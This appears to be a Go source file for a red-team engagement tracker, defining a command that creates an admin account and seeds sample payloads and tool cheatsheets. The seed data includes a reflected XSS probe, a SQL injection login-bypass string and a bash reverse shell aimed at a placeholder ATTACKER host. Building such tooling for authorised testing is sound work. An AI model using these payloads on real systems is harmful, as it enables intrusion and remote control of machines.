package cmd

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"time"

	"github.com/google/uuid"
	"github.com/spf13/cobra"

	"github.com/clearmind/redsheet/engagement"
	"github.com/clearmind/redsheet/session"
	"github.com/clearmind/redsheet/storage"
	bboltstorage "github.com/clearmind/redsheet/storage/bbolt"
)

var (
	seedDataDir       string
	seedAdminPassword string
)

var seedCmd = &cobra.Command{
	Use:   "seed",
	Short: "Create the initial admin account and sample records",
	RunE: func(cmd *cobra.Command, args []string) error {
		if len(seedAdminPassword) < 10 {
			return fmt.Errorf("admin password must be at least 10 characters")
		}
		if err := os.MkdirAll(seedDataDir, 0o700); err != nil {
			return fmt.Errorf("creating data directory: %w", err)
		}
		repo, err := bboltstorage.NewRepositoryFromFile(
			filepath.Join(seedDataDir, "redsheet.db"), nil)
		if err != nil {
			return fmt.Errorf("opening storage: %w", err)
		}
		defer repo.Close()

		username, err := createUser(repo, "admin", seedAdminPassword, session.RoleAdmin)
		if err != nil {
			return err
		}
		fmt.Printf("Created admin user %q\n", username)

		if err := seedSamples(repo); err != nil {
			return err
		}
		fmt.Println("Seeded sample payloads and tools")
		return nil
	},
}

func seedSamples(repo storage.Repository) error {
	now := time.Now()
	payloads := []engagement.Payload{
		{
			Name:     "Basic reflected XSS probe",
			Category: engagement.CategoryXSS,
			Platform: engagement.PlatformWeb,
			Severity: engagement.SeverityMedium,
			Content:  `<script>alert(document.domain)</script>`,
		},
		{
			Name:     "Auth bypass tautology",
			Category: engagement.CategorySQLi,
			Platform: engagement.PlatformWeb,
			Severity: engagement.SeverityHigh,
			Content:  `' OR '1'='1' --`,
		},
		{
			Name:     "Bash reverse shell",
			Category: engagement.CategoryRevShell,
			Platform: engagement.PlatformLinux,
			Severity: engagement.SeverityCritical,
			Content:  `bash -i >& /dev/tcp/ATTACKER/4444 0>&1`,
			Notes:    "Replace ATTACKER and port before use.",
		},
	}
	for _, p := range payloads {
		p.ID = uuid.NewString()
		p.CreatedAt, p.UpdatedAt = now, now
		if err := putRecord(repo, engagement.KindPayload, p.ID, p); err != nil {
			return err
		}
	}

	tools := []engagement.Tool{
		{
			Name:        "nmap",
			Category:    "recon",
			Description: "Network scanner.",
			Cheatsheet:  "nmap -sC -sV -oA scan <target>",
		},
		{
			Name:        "ffuf",
			Category:    "web",
			Description: "Fast web fuzzer.",
			Cheatsheet:  "ffuf -w wordlist.txt -u https://target/FUZZ",
		},
	}
	for _, tl := range tools {
		tl.ID = uuid.NewString()
		tl.CreatedAt, tl.UpdatedAt = now, now
		if err := putRecord(repo, engagement.KindTool, tl.ID, tl); err != nil {
			return err
		}
	}
	return nil
}

func putRecord(repo storage.Repository, kind, id string, v any) error {
	data, err := json.Marshal(v)
	if err != nil {
		return err
	}
	if err := repo.Put(kind, id, data); err != nil {
		return fmt.Errorf("seeding %s: %w", kind, err)
	}
	return nil
}

func init() {
	rootCmd.AddCommand(seedCmd)
	seedCmd.Flags().StringVar(&seedDataDir, "data-dir", "./data", "Directory for persistent data")
	seedCmd.Flags().StringVar(&seedAdminPassword, "admin-password", "", "Password for the initial admin account")
	seedCmd.MarkFlagRequired("admin-password")
}
